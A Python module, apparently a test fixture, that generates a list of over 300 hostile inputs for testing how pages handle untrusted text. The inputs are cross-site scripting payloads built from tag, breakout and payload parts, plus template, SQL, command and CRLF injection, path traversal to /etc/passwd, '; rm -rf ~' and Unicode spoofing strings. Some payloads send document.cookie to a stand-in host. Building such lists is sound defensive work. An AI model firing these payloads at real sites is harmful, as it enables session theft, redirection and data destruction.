"""Texts that would run, lead away or break out, were a page to take them for markup: made from parts, 300 and more."""

from __future__ import annotations

from itertools import product

_PAYLOADS = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "top.location='//evil.example'",
    "import('//e.example')",
)
_BREAKS = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "]]>",
    "\u2028",
    "\x00",
    "{{",
    "${",
)
_TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<a href=\"javascript:{}\">x</a>",
    "<iframe srcdoc=\"<script>{}</script>\">",
    "<details open ontoggle={}>",
)  # fmt: skip
_OTHERS = (
    "{{7*7}}", "{{ config }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${7*7}", "#{7*7}",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "\r\nSet-Cookie: x=1", "\r\n\r\n<script>alert(1)</script>", "=cmd|'/c calc'!A1", "' OR '1'='1", "; rm -rf ~ #",
    "$(id)", "`id`", "../../../etc/passwd", "<!--#exec cmd=\"id\"-->", "<base href=//evil.example>",
    "<style>*{x:url(//e)}",
    "<meta http-equiv=refresh content=0;//evil.example>", "<form action=//evil.example><input name=csrf>",
    "<math><mi//xlink:href=x>",
    "\u202egnp.exe", "\ufeff<script>", "＜script＞alert(1)＜/script＞", "ａｌｅｒｔ", "<ScRiPt sRc=//evil.example>",
    "<x onpointerover=alert(1)>",
)  # fmt: skip

HOSTILE = (
    *_OTHERS,
    *(before + tag.format(payload) for before, tag, payload in product(_BREAKS, _TAGS, _PAYLOADS)),
)
